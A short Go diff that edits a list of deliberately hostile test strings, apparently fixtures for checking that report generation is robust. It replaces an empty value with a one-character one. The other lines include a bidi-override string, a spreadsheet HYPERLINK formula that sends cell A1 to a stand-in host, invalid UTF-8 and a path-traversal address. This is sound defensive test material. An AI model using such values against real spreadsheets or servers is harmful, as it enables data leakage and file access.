@@ -17,7 +17,7 @@ var (
 	HostileReversed = "\u202e局源资然自区山博\u2067\u2066x"                // turns the text after it round, and never ends
 	HostileFormula  = `=HYPERLINK("http://example.test/"&A1,"局")`  // a spreadsheet runs it
 	HostileBroken   = "\xff\xfe字节局"                                // no UTF-8
-	HostileMissing  = ""                                           // no name, no region, no title, no table
+	HostileMissing  = "空"                                          // one character, and the report has no region, no title, no file and no table
 	HostileAddress  = `../../%2e%2e/?m=x#"局`                       // of a file or a page
 	HostileNames    = []string{HostileMarkup, HostileLong, HostileControl, HostileReversed, HostileFormula, HostileBroken, HostileMissing, HostileAddress}
 )
